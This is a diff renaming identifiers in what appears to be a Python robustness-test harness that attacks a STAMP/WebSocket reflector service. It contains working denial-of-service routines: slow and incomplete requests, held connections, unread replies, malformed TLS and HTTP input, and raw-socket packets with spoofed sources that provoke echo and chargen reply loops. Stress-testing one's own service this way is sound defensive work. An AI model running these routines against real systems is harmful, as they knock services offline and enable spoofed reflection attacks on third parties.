@@ -23,35 +23,35 @@ UPGRADE = (
 
 
 @dataclass(frozen=True)
-class Place:
-    """Where an attacker is."""
+class AttackTarget:
+    """Addresses of the reflector and of the attacker, and the end of the attack."""
 
-    hub: str
-    hub6: str
-    own: str
+    reflector_v4: str
+    reflector_v6: str
+    attacker_v4: str
     # A /64 of its own, whose every address it may use.
-    prefix6: str
-    until: float
+    attacker_prefix: str
+    deadline: float
 
     def is_over(self) -> bool:
-        return time.monotonic() >= self.until
+        return time.monotonic() >= self.deadline
 
     def pause(self, seconds: float) -> None:
-        time.sleep(max(0.0, min(seconds, self.until - time.monotonic())))
+        time.sleep(max(0.0, min(seconds, self.deadline - time.monotonic())))
 
 
-def connect(place: Place, source: str | None = None) -> socket.socket:
+def connect(target: AttackTarget, source: str | None = None) -> socket.socket:
     family = socket.AF_INET6 if source and ":" in source else socket.AF_INET
     stream = socket.socket(family, socket.SOCK_STREAM)
     stream.settimeout(2)
     if source:
         stream.bind((source, 0))
-    stream.connect((place.hub6 if family == socket.AF_INET6 else place.hub, PORT))
+    stream.connect((target.reflector_v6 if family == socket.AF_INET6 else target.reflector_v4, PORT))
     return stream
 
 
-def websocket(place: Place, reply: int) -> socket.socket:
-    stream = connect(place)
+def websocket(target: AttackTarget, reply: int) -> socket.socket:
+    stream = connect(target)
     stream.sendall(UPGRADE % reply)
     stream.recv(4096)
     return stream
@@ -79,158 +79,163 @@ def stamp(seq: int) -> bytes:
     return struct.pack("!IIIH30x", seq, seconds, random.getrandbits(32), 0x0001)
 
 
-def spoof(place: Place, source: tuple[str, int], payload: bytes) -> None:
-    """Sends a datagram to the reflector in another's name."""
+def spoof(target: AttackTarget, source: tuple[str, int], payload: bytes) -> None:
+    """Sends a datagram to the reflector with a spoofed source address."""
     udp = struct.pack("!HHHH", source[1], PORT, 8 + len(payload), 0) + payload
-    addresses = socket.inet_aton(source[0]) + socket.inet_aton(place.hub)
+    addresses = socket.inet_aton(source[0]) + socket.inet_aton(target.reflector_v4)
     header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
-        raw.sendto(header + udp, (place.hub, 0))
+        raw.sendto(header + udp, (target.reflector_v4, 0))
 
 
-def repeatedly(place: Place, pause: float, once: Callable[[int], None]) -> None:
-    """Does it repeatedly; what is refused was refused as it should be."""
+def repeat_until_deadline(target: AttackTarget, pause: float, attempt: Callable[[int], None]) -> None:
+    """Calls `attempt` until the deadline; an attempt that the reflector refuses is no error."""
     count = 0
-    while not place.is_over():
+    while not target.is_over():
         try:
-            once(count)
+            attempt(count)
         except (OSError, ssl.SSLError):
             pass
         count += 1
-        place.pause(pause)
+        target.pause(pause)
 
 
-def hold(place: Place, most: int, pause: float, make: Callable[[int], socket.socket]) -> None:
-    """Keeps up to so many connections open; the oldest makes room."""
+def hold_connections(
+    target: AttackTarget,
+    max_connections: int,
+    pause: float,
+    open_connection: Callable[[int], socket.socket],
+) -> None:
+    """Keeps at most `max_connections` open; closes the oldest for a new one."""
     held: list[socket.socket] = []
 
-    def once(count: int) -> None:
-        if len(held) >= most:
+    def attempt(count: int) -> None:
+        if len(held) >= max_connections:
             held.pop(0).close()
-        held.append(make(count))
+        held.append(open_connection(count))
 
-    repeatedly(place, pause, once)
+    repeat_until_deadline(target, pause, attempt)
     for stream in held:
         stream.close()
 
 
-def hold_idle(place: Place) -> None:
+def hold_idle_connections(target: AttackTarget) -> None:
     """Takes as many connections as it gets and asks once on each."""
 
-    def make(count: int) -> socket.socket:
-        stream = websocket(place, 100)
+    def open_connection(count: int) -> socket.socket:
+        stream = websocket(target, 100)
         stream.sendall(frame(0x82, message(count)))
         return stream
 
-    hold(place, 600, 0.02, make)
+    hold_connections(target, 600, 0.02, open_connection)
 
 
-def hold_from_many_addresses(place: Place) -> None:
+def hold_connections_from_many_addresses(target: AttackTarget) -> None:
     """As before, each connection from another IPv6 address."""
 
-    def make(_: int) -> socket.socket:
-        source = place.prefix6 + f"{random.getrandbits(16):x}:{random.getrandbits(16):x}"
-        stream = connect(place, source)
+    def open_connection(_: int) -> socket.socket:
+        source = target.attacker_prefix + f"{random.getrandbits(16):x}:{random.getrandbits(16):x}"
+        stream = connect(target, source)
         stream.sendall(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n")
         return stream
 
-    hold(place, 600, 0.02, make)
+    hold_connections(target, 600, 0.02, open_connection)
 
 
-def trickle_a_head(place: Place) -> None:
+def send_head_byte_by_byte(target: AttackTarget) -> None:
     """A request head byte by byte."""
 
-    def once(_: int) -> None:
-        with connect(place) as stream:
+    def attempt(_: int) -> None:
+        with connect(target) as stream:
             for byte in b"GET / HTTP/1.1\r\nX: " + b"x" * 200:
                 stream.sendall(bytes([byte]))
-                place.pause(0.1)
+                target.pause(0.1)
 
-    repeatedly(place, 0.1, once)
+    repeat_until_deadline(target, 0.1, attempt)
 
 
-def leave_requests_unfinished(place: Place) -> None:
+def send_incomplete_requests(target: AttackTarget) -> None:
     """Almost all of a large request."""
 
-    def make(_: int) -> socket.socket:
-        stream = websocket(place, 100)
+    def open_connection(_: int) -> socket.socket:
+        stream = websocket(target, 100)
         stream.sendall(frame(0x82, b"", 60 * MEGABYTE))
         for _ in range(58):
             stream.sendall(bytes(MEGABYTE))
-            place.pause(0.02)
+            target.pause(0.02)
         return stream
 
-    hold(place, 8, 0.5, make)
+    hold_connections(target, 8, 0.5, open_connection)
 
 
-def leave_fragments_unfinished(place: Place) -> None:
+def send_endless_fragments(target: AttackTarget) -> None:
     """Fragments of a message that has no end."""
 
-    def once(_: int) -> None:
-        with websocket(place, 100) as stream:
+    def attempt(_: int) -> None:
+        with websocket(target, 100) as stream:
             stream.sendall(frame(0x02, bytes(MEGABYTE)))
-            while not place.is_over():
+            while not target.is_over():
                 stream.sendall(frame(0x00, bytes(MEGABYTE)))
-                place.pause(0.05)
+                target.pause(0.05)
 
-    repeatedly(place, 0.5, once)
+    repeat_until_deadline(target, 0.5, attempt)
 
 
-def leave_replies_unread(place: Place) -> None:
+def leave_replies_unread(target: AttackTarget) -> None:
     """Asks for the largest reply and reads nothing."""
 
-    def make(count: int) -> socket.socket:
-        stream = websocket(place, 16 * MEGABYTE)
+    def open_connection(count: int) -> socket.socket:
+        stream = websocket(target, 16 * MEGABYTE)
         stream.sendall(frame(0x82, message(count)))
         return stream
 
-    hold(place, 16, 0.25, make)
+    hold_connections(target, 16, 0.25, open_connection)
 
 
-def leave_replies_unread_over_tls(place: Place) -> None:
+def leave_replies_unread_over_tls(target: AttackTarget) -> None:
     """As before, over TLS."""
     context = ssl.create_default_context()
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
 
-    def make(count: int) -> socket.socket:
-        stream = context.wrap_socket(connect(place))
+    def open_connection(count: int) -> socket.socket:
+        stream = context.wrap_socket(connect(target))
         stream.sendall(UPGRADE % (16 * MEGABYTE))
         stream.recv(4096)
         stream.sendall(frame(0x82, message(count)))
         return stream
 
-    hold(place, 16, 0.5, make)
+    hold_connections(target, 16, 0.5, open_connection)
 
 
-def read_byte_by_byte(place: Place) -> None:
+def read_reply_byte_by_byte(target: AttackTarget) -> None:
     """Reads a large reply a byte at a time."""
 
-    def once(count: int) -> None:
-        with websocket(place, 4 * MEGABYTE) as stream:
+    def attempt(count: int) -> None:
+        with websocket(target, 4 * MEGABYTE) as stream:
             stream.sendall(frame(0x82, message(count)))
-            while not place.is_over():
+            while not target.is_over():
                 if not stream.recv(1):
                     return
-                place.pause(0.1)
+                target.pause(0.1)
 
-    repeatedly(place, 0.2, once)
+    repeat_until_deadline(target, 0.2, attempt)
 
 
-def break_tls(place: Place) -> None:
+def send_invalid_tls_handshakes(target: AttackTarget) -> None:
     """Half a TLS handshake, or garbage in its place."""
 
-    def make(_: int) -> socket.socket:
-        stream = connect(place)
+    def open_connection(_: int) -> socket.socket:
+        stream = connect(target)
         stream.sendall(b"\x16\x03\x01" + random.randbytes(random.choice([0, 5, 300])))
         return stream
 
-    hold(place, 50, 0.05, make)
+    hold_connections(target, 50, 0.05, open_connection)
 
 
-def speak_nonsense(place: Place) -> None:
+def send_invalid_requests(target: AttackTarget) -> None:
     """Random bytes, negative lengths, heads that are too long, two lengths."""
-    kinds = [
+    payloads = [
         random.randbytes(200),
         b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: -1\r\n\r\n",
         b"GET / HTTP/1.1\r\nHost: h\r\nX: " + b"x" * 70_000,
@@ -238,109 +243,113 @@ def speak_nonsense(place: Place) -> None:
         b"GET /?reply=99999999999999999999 HTTP/1.1\r\nHost: h\r\n\r\n",
     ]
 
-    def once(count: int) -> None:
-        with connect(place) as stream:
-            stream.sendall(kinds[count % len(kinds)])
+    def attempt(count: int) -> None:
+        with connect(target) as stream:
+            stream.sendall(payloads[count % len(payloads)])
             stream.recv(4096)
 
-    repeatedly(place, 0.02, once)
+    repeat_until_deadline(target, 0.02, attempt)
 
 
-def connect_and_leave(place: Place) -> None:
+def connect_and_close(target: AttackTarget) -> None:
     """Connections that end at once."""
-    repeatedly(place, 0.01, lambda _: connect(place).close())
+    repeat_until_deadline(target, 0.01, lambda _: connect(target).close())
 
 
-def ping_without_reading(place: Place) -> None:
+def ping_without_reading(target: AttackTarget) -> None:
     """WebSocket pings whose pongs are not read."""
     pings = frame(0x89, bytes(125)) * 100
 
-    def once(_: int) -> None:
-        with websocket(place, 100) as stream:
-            while not place.is_over():
+    def attempt(_: int) -> None:
+        with websocket(target, 100) as stream:
+            while not target.is_over():
                 stream.sendall(pings)
-                place.pause(0.02)
+                target.pause(0.02)
 
-    repeatedly(place, 0.2, once)
+    repeat_until_deadline(target, 0.2, attempt)
 
 
-def upload_in_silence(place: Place) -> None:
-    """Takes the turn for a bulk transfer and sends nothing."""
+def upload_without_data(target: AttackTarget) -> None:
+    """Starts bulk uploads and sends no data: others cannot start one meanwhile."""
 
-    def once(_: int) -> None:
-        with connect(place) as stream:
+    def attempt(_: int) -> None:
+        with connect(target) as stream:
             # Hello (neph-wire/frame.rs): magic, upload, no reply, 30 s.
             stream.sendall(b"NEPH\x01\x01\x00\x00" + struct.pack("!II", 0, 30_000))
             stream.settimeout(5)
             while stream.recv(4096):
                 pass
 
-    repeatedly(place, 0.2, once)
+    repeat_until_deadline(target, 0.2, attempt)
 
 
-def take_stamps(place: Place) -> None:
+def request_many_flow_tokens(target: AttackTarget) -> None:
     """Many flows' tokens, each on a connection of its own."""
 
-    def once(_: int) -> None:
-        with connect(place) as stream:
+    def attempt(_: int) -> None:
+        with connect(target) as stream:
             token = random.getrandbits(64)
             stream.sendall(b"GET /?reply=100&flow=%016x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" % token)
             while stream.recv(4096):
                 pass
 
-    repeatedly(place, 0.01, once)
+    repeat_until_deadline(target, 0.01, attempt)
 
 
-def start_loops(place: Place) -> None:
+def provoke_reply_loops(target: AttackTarget) -> None:
     """Requests in the name of the reflector itself, of an echo service, and of another reflector."""
-    sources = [(place.hub, PORT), (place.hub, 7), (place.own, 862), (place.own, 19)]
-    repeatedly(place, 0.01, lambda count: spoof(place, sources[count % 4], stamp(0)))
+    reflector, attacker = target.reflector_v4, target.attacker_v4
+    sources = [(reflector, PORT), (reflector, 7), (attacker, 862), (attacker, 19)]
+    repeat_until_deadline(target, 0.01, lambda count: spoof(target, sources[count % 4], stamp(0)))
 
 
-def repeat_one_request(place: Place) -> None:
+def repeat_one_request(target: AttackTarget) -> None:
     """The same STAMP packet repeatedly, as an echo service would send it."""
     datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     packet = stamp(7)
-    repeatedly(place, 0.005, lambda _: datagrams.sendto(packet, (place.hub, PORT)))
+    repeat_until_deadline(target, 0.005, lambda _: datagrams.sendto(packet, (target.reflector_v4, PORT)))
 
 
-def come_from_everywhere(place: Place) -> None:
+def send_from_spoofed_sources(target: AttackTarget) -> None:
     """STAMP requests in the names of a million addresses."""
 
-    def once(_: int) -> None:
+    def attempt(_: int) -> None:
         for _ in range(10):
             source = f"10.{random.randrange(100, 116)}.{random.randrange(256)}.{random.randrange(1, 255)}"
-            spoof(place, (source, random.randrange(20_000, 60_000)), stamp(0))
+            spoof(target, (source, random.randrange(20_000, 60_000)), stamp(0))
 
-    repeatedly(place, 0.02, once)
+    repeat_until_deadline(target, 0.02, attempt)
 
 
-def send_malformed_datagrams(place: Place) -> None:
+def send_malformed_datagrams(target: AttackTarget) -> None:
     """Datagrams that are no STAMP packets, and replies."""
     datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    kinds = [b"", random.randbytes(43), bytes(1_400), stamp(1)[:14] + random.randbytes(98)]
-    repeatedly(place, 0.002, lambda count: datagrams.sendto(kinds[count % 4], (place.hub, PORT)))
+    payloads = [b"", random.randbytes(43), bytes(1_400), stamp(1)[:14] + random.randbytes(98)]
+    reflector = (target.reflector_v4, PORT)
+    repeat_until_deadline(
+        target, 0.002, lambda count: datagrams.sendto(payloads[count % 4], reflector)
+    )
 
 
-ATTACKS: list[Callable[[Place], None]] = [
-    hold_idle,
-    hold_from_many_addresses,
-    trickle_a_head,
-    leave_requests_unfinished,
-    leave_fragments_unfinished,
+ATTACKS: list[Callable[[AttackTarget], None]] = [
+    hold_idle_connections,
+    hold_connections_from_many_addresses,
+    send_head_byte_by_byte,
+    send_incomplete_requests,
+    send_endless_fragments,
     leave_replies_unread,
     leave_replies_unread_over_tls,
-    read_byte_by_byte,
-    break_tls,
-    speak_nonsense,
-    connect_and_leave,
+    read_reply_byte_by_byte,
+    send_invalid_tls_handshakes,
+    send_invalid_requests,
+    connect_and_close,
     ping_without_reading,
-    upload_in_silence,
-    take_stamps,
-    start_loops,
+    upload_without_data,
+    request_many_flow_tokens,
+    provoke_reply_loops,
     repeat_one_request,
-    come_from_everywhere,
+    send_from_spoofed_sources,
     send_malformed_datagrams,
-    hold_idle,
-    hold_from_many_addresses,
+    hold_idle_connections,
+    hold_connections_from_many_addresses,
 ]
